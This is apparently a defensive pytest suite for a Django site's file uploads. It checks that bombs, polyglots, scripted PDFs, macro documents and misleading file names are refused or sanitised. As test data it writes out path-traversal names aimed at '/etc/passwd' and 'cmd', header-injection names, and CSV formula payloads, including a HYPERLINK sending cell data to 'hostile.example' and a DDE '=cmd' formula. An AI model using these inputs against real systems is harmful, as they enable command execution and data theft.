"""Hostile files: each is refused in plain words, or what is served of it has lost its sting."""

import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from django.conf import settings as site
from django.utils import timezone
from PIL import Image

from innovations.attachments import intake
from innovations.attachments.intake import SECONDS_TO_EXAMINE
from innovations.attachments.names import clean_file_name
from innovations.models import Attachment
from tests.factories import InnovationFactory
from tests.hostile import made_files as made
from tests.innovations.attachments.files import docx, pdf, picture
from tests.innovations.attachments.uploading import errors, upload

pytestmark = pytest.mark.django_db
MOST_MEMORY_MB = 200

REFUSED = {
    # name as it is sent, what is in it, words of the answer
    "SVG with a script, called PNG": ("a.png", made.svg_with_script, "its name says PNG"),
    "SVG": ("a.svg", made.svg_with_script, "this kind of file cannot be taken"),
    "HTML, called JPEG": ("a.jpg", made.html, "its name says JPEG"),
    "HTML": ("a.html", made.html, "this kind of file cannot be taken"),
    "a program, called PDF": ("invoice.pdf", lambda: b"MZ" + bytes(500), "its name says PDF"),
    "a program after all": ("report.pdf.exe", pdf, "this kind of file cannot be taken"),
    "a PDF, called JPEG": ("a.jpg", pdf, "its name says JPEG"),
    "a document, called spreadsheet": ("a.xlsx", docx, "its name says XLSX"),
    "empty": ("a.png", bytes, "the file is empty"),
    "without an ending": ("README", lambda: b"a,b", "this kind of file cannot be taken"),
    "text bomb in a PNG": ("a.png", made.png_with_text_bomb, "it is damaged"),
    "profile bomb in a PNG": ("a.png", made.png_with_profile_bomb, "it is damaged"),
    "50,000 × 50,000 pixels": ("a.png", made.png_of_2500_million_pixels, "50000 × 50000 pixels"),
    "16,383 × 16,383 pixels": ("a.webp", made.webp_of_250_million_pixels, "16383 × 16383 pixels"),
    "half a JPEG": ("a.jpg", lambda: picture()[:-2_000], "it is damaged or not complete"),
    "half a PNG": ("a.png", lambda: picture("PNG", mode="RGB")[:300], "it is damaged"),
    "PDF with a script": ("a.pdf", made.pdf_with_script, "this PDF has a script"),
    "PDF with a packed script": ("a.pdf", made.pdf_with_packed_script, "this PDF has a script"),
    "PDF that starts a program": ("a.pdf", made.pdf_with_launch, "this PDF has a script"),
    "PDF with a program in it": ("a.pdf", made.pdf_with_program, "this PDF has other files"),
    "PDF bomb": ("a.pdf", made.pdf_with_object_bomb, "it takes too much memory"),
    "XLSX bomb": ("a.xlsx", made.xlsx_bomb, "it unpacks to far more than its size"),
    "XLSX that lies about its size": ("a.xlsx", made.xlsx_that_lies, "it is damaged"),
    "XLSX of a million entries": ("a.xlsx", made.xlsx_of_a_million_entries, "it unpacks to far"),
    "XLSX that unfolds itself": ("a.xlsx", made.xlsx_of_words, "it is damaged"),
    "XLSX that fetches": ("a.xlsx", made.xlsx_linked, "it fetches"),
    "DOCX with a macro": ("a.docx", made.docx_with_macro, "it has macros in it"),
    "DOCX with a template elsewhere": ("a.docx", made.docx_with_template, "it fetches"),
    "DOCX with a picture elsewhere": ("a.docx", made.docx_with_remote_picture, "it fetches"),
    "DOCX with DDE": ("a.docx", made.docx_with_dde, "it fetches"),
    "DOCX with a program in it": ("a.docx", made.docx_with_program, "it has another file inside"),
    "DOCX that leaves its folder": ("a.docx", made.docx_out_of_its_folder, "it is damaged"),
    "ODT with a macro": ("a.odt", made.odt_with_macro, "it has macros in it"),
    "ODT with a picture elsewhere": ("a.odt", made.odt_with_remote_picture, "it fetches"),
    "Word of 2003": ("a.doc", made.old_word, "the format of Office before 2007"),
    "CSV with NUL": ("a.csv", lambda: b"a,b\0c\n", "it is not a table of text"),
    "CSV of one endless cell": ("a.csv", lambda: b'"' + b"a" * 9_000_000, "a cell has more than"),
}  # fmt: skip
NEUTRALISED = {
    "JPEG and ZIP in one": ("a.jpg", made.jpeg_and_zip),
    "JPEG and HTML in one": ("a.jpg", made.jpeg_and_html),
    "JPEG with position and script in its EXIF": ("a.jpg", made.jpeg_with_position),
    "WebP of many frames": ("a.webp", made.webp_of_many_frames),
    "24 million pixels in 24 KB": ("a.png", made.png_just_within_limits),
}
BAD_NAMES = {
    "../../../etc/passwd.png": "passwd.webp",
    "..\\..\\windows\\system32\\cmd.png": "cmd.webp",
    "/etc/cron.d/x.png": "x.webp",
    "invoice\u202egnp.exe.png": "invoicegnp-exe.webp",
    "report.exe.png": "report-exe.webp",
    "<img src=x onerror=alert(1)>.png": "img-src-x-onerror-alert(1).webp",
    "名" * 300 + ".png": "名" * 100 + ".webp",
}
# A browser or Django's parser would not let these through as they are; another client might.
WORSE_NAMES = {
    'a"; filename="b.html".png': "a-filename-b-html.webp",
    "a\r\nSet-Cookie: x=1.png": "a-Set-Cookie-x-1.webp",
    "con.png": "file-con.webp",
    "\u200b.png": "png.webp",
    "": "file.webp",
    ".png": "png.webp",
    "\ud800a\0b.png": "ab.webp",
    "%2e%2e%2fa.png": "2e-2e-2fa.webp",
    "Repair café, May 2024.png": "Repair-café-May-2024.webp",
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.mark.parametrize("trick", REFUSED)
def test_it_is_refused_in_plain_words(client, media, trick):
    name, make, words = REFUSED[trick]
    started = time.monotonic()
    answer = upload(client, innovation := InnovationFactory(), (name, make()))
    (error,) = errors(answer)
    assert words in error, error
    assert time.monotonic() - started < SECONDS_TO_EXAMINE
    assert innovation.attachments.count() == 0
    assert [path for path in media.rglob("*") if path.is_file()] == []
    assert made.MARK not in answer.content


@pytest.mark.parametrize("trick", NEUTRALISED)
def test_only_the_picture_is_left_of_it(client, trick):
    name, make = NEUTRALISED[trick]
    kept = take(client, name, make())
    for url in (kept.get_absolute_url(), kept.card_url):
        content = served(client, url, kept)
        assert is_nothing_but_a_picture(content)


def take(client, name: str, content: bytes) -> Attachment:
    innovation = InnovationFactory(published=True)
    answer = upload(client, innovation, (name, content))
    assert errors(answer) == []
    kept = innovation.attachments.get()
    is_image = kept.kind == Attachment.Kind.IMAGE
    Attachment.objects.filter(pk=kept.pk).update(
        described_at=timezone.now(), licence="CC0-1.0", is_decorative=is_image, title="A file"
    )
    kept.refresh_from_db()
    return kept


def served(client, url: str, kept: Attachment) -> bytes:
    """What everybody gets, once it is clear that no browser makes anything else of it."""
    client.logout()
    answer = client.get(url)
    assert answer.status_code == 200
    assert answer["Content-Type"] == kept.content_type
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    how = "inline" if kept.kind == Attachment.Kind.IMAGE else "attachment"
    assert answer["Content-Disposition"].startswith(f"{how}; filename")
    return answer.getvalue()


def is_nothing_but_a_picture(content: bytes) -> bool:
    """One RIFF of the length it states, with picture data and nothing beside it."""
    assert content[:4] == b"RIFF" and content[8:12] == b"WEBP"
    assert int.from_bytes(content[4:8], "little") + 8 == len(content)
    chunks, at = [], 12
    while at < len(content):
        length = int.from_bytes(content[at + 4 : at + 8], "little")
        chunks.append(content[at : at + 4])
        at += 8 + length + length % 2
    assert chunks == [b"VP8 "]
    assert made.MARK not in content
    return True


def test_the_picture_stands_upright_without_its_notes(client, tmp_path):
    kept = take(client, "a.jpg", made.jpeg_with_position())
    path = tmp_path / "served.webp"
    path.write_bytes(served(client, kept.get_absolute_url(), kept))
    with Image.open(path) as image:
        assert image.size == (600, 800)  # it was 800 × 600, to be turned by its orientation
        assert not image.getexif()
        assert not {"exif", "xmp", "icc_profile", "comment"} & set(image.info)
        # The gradient ran from top to bottom, and now runs from right to left.
        assert image.convert("L").getpixel((590, 400)) < 20 < image.convert("L").getpixel((10, 400))


@pytest.mark.parametrize("name", BAD_NAMES)
def test_names_that_mislead_are_put_right(client, name):
    kept = take(client, name, picture("PNG", mode="RGB"))
    assert kept.file_name == BAD_NAMES[name]
    assert re.fullmatch(r"attachments/[0-9a-f]{2}/[0-9a-f-]{36}\.webp", kept.file.name)
    served(client, kept.get_absolute_url(), kept)


@pytest.mark.parametrize("name", BAD_NAMES | WORSE_NAMES)
def test_a_clean_name_is_all_that_is_left_of_any(name):
    cleaned = clean_file_name(name, ".webp")
    assert cleaned == (BAD_NAMES | WORSE_NAMES)[name]
    assert clean_file_name(cleaned, ".webp") == cleaned


def test_formulas_of_a_table_do_not_run(client):
    content = (
        'place,note\nTestborough,"=HYPERLINK(""http://hostile.example?""&A1,""Click"")"\n'
        "-5,+44 20 7946 0000\n@SUM(A1),＝1+1\n".encode()
    )
    kept = take(client, "a.csv", content)
    text = served(client, kept.get_absolute_url(), kept).decode("utf-8-sig")
    assert text.splitlines() == [
        "place,note",
        'Testborough,"\'=HYPERLINK(""http://hostile.example?""&A1,""Click"")"',
        "-5,+44 20 7946 0000",
        "'@SUM(A1),'＝1+1",
    ]


def test_a_table_from_an_old_excel_becomes_readable_everywhere(client):
    kept = take(client, "a.csv", "place;cost\nYnys Môn;£5\n".encode("cp1252"))
    assert served(client, kept.get_absolute_url(), kept).decode("utf-8-sig").splitlines() == [
        "place;cost", "Ynys Môn;£5",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("scanner", "words"),
    [
        ("sh -c '! grep -q EICAR \"$1\"' scan", "our virus scanner found something"),
        ("sh -c 'exit 2'", "it could not be checked just now"),
        ("/no/such/scanner", "it could not be checked just now"),
    ],
)
def test_the_scanner_has_the_last_word(client, settings, media, scanner, words):
    settings.UPLOAD_SCANNER = scanner
    innovation = InnovationFactory()
    (error,) = errors(upload(client, innovation, ("a.csv", made.EICAR)))
    assert words in error
    assert [path for path in media.rglob("*") if path.is_file()] == []


def test_what_the_scanner_finds_clean_is_taken(client, settings):
    settings.UPLOAD_SCANNER = "sh -c '! grep -q EICAR \"$1\"' scan"
    assert take(client, "a.csv", b"place,number\n").file_name == "a.csv"


# The files that unpack to much, and the largest ones that are taken.
UNPACKED = ("bomb", "pixels", "lies", "million", "unfolds", "endless", "frames", "position")
WORST = {
    trick: row[:2]
    for trick, row in (REFUSED | NEUTRALISED).items()
    if any(word in trick for word in UNPACKED)
}


def test_no_file_takes_more_memory_than_it_may(tmp_path):
    """Each in the process that looks through files, whose peak the kernel itself has noted."""
    program = (
        "import sys\nfrom innovations.uploads.examine import main\n"
        "try: main()\nfinally: print(open('/proc/self/status').read(), file=sys.stderr)"
    )
    peaks = {}
    for trick, (name, make) in WORST.items():
        path = tmp_path / "file"
        path.write_bytes(make())
        (folder := tmp_path / "kept").mkdir(exist_ok=True)
        done = subprocess.run(
            [sys.executable, "-c", program, str(path), Path(name).suffix, str(folder)],
            cwd=site.BASE_DIR,
            env={"MALLOC_ARENA_MAX": "1", "PATH": os.environ["PATH"]},
            capture_output=True,
            timeout=60,
        )
        peaks[trick] = int(re.search(rb"VmHWM:\s+(\d+) kB", done.stderr)[1]) // 1024
    print(dict(sorted(peaks.items(), key=lambda each: -each[1])))
    assert len(peaks) >= 12
    assert max(peaks.values()) < MOST_MEMORY_MB


def test_a_process_that_hangs_is_ended(client, monkeypatch):
    monkeypatch.setattr(intake, "SECONDS_TO_EXAMINE", 0.01)
    (error,) = errors(upload(client, InnovationFactory(), ("a.jpg", picture())))
    assert "it takes too much memory or time to check" in error


def test_a_process_that_breaks_down_takes_nothing_with_it(client, monkeypatch, tmp_path):
    broken = tmp_path / "python"
    broken.write_text("#!/bin/sh\nkill -SEGV $$\n")
    broken.chmod(0o755)
    monkeypatch.setattr(intake.sys, "executable", str(broken))
    (error,) = errors(upload(client, InnovationFactory(), ("a.jpg", picture())))
    assert "it takes too much memory or time to check" in error


def test_whoever_waits_too_long_is_told_to_come_again(client, monkeypatch):
    monkeypatch.setattr(intake, "SECONDS_TO_WAIT", 0.01)
    monkeypatch.setattr(intake, "_turns", threading.BoundedSemaphore(1))
    intake._turns.acquire()
    (error,) = errors(upload(client, InnovationFactory(), ("a.jpg", picture())))
    assert "it could not be checked just now" in error


def test_the_process_gets_none_of_our_secrets(monkeypatch):
    seen = {}

    def run(command, **options):
        seen.update(options["env"])
        return subprocess.CompletedProcess(command, 0, b"{}", b"")

    monkeypatch.setenv("SECRET_KEY", "hush")
    monkeypatch.setattr(intake.subprocess, "run", run)
    intake._examine(Path("x"), ".png", Path("y"))
    assert not any("SECRET" in name or "URL" in name or "DJANGO" in name for name in seen)


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_a_browser_shows_or_saves_what_was_taken_and_runs_nothing(browser, live_server, client):
    """In Chromium: by itself, and on the page of its record."""
    pictures = [take(client, *_made(trick)) for trick in NEUTRALISED]
    table = take(client, "a.csv", b"a,=cmd|' /C calc'!A0\n" + made.SCRIPT)
    page = browser.new_page()
    complaints, elsewhere = [], []
    page.on("dialog", lambda dialog: (complaints.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on(
        "request",
        lambda request: (
            request.url.startswith((live_server.url, "data:")) or elsewhere.append(request.url)
        ),
    )
    for kept in pictures:
        page.goto(live_server.url + kept.get_absolute_url())
        assert page.evaluate("document.images[0].naturalWidth") == kept.width
        assert made.MARK.decode() not in page.title()
        page.goto(live_server.url + kept.innovation.get_absolute_url())
        shown = page.locator("main figure img")
        assert shown.evaluate("image => image.decode().then(() => image.naturalWidth)") > 0
        assert made.MARK.decode() not in page.content()
    page.goto(live_server.url + table.innovation.get_absolute_url())
    with page.expect_download() as download:
        page.locator("main").get_by_role("link", name="A file (CSV").click()
    assert download.value.suggested_filename == "a.csv"
    page.close()
    assert (complaints, elsewhere) == ([], [])


def _made(trick: str) -> tuple[str, bytes]:
    name, make = NEUTRALISED[trick]
    return name, make()
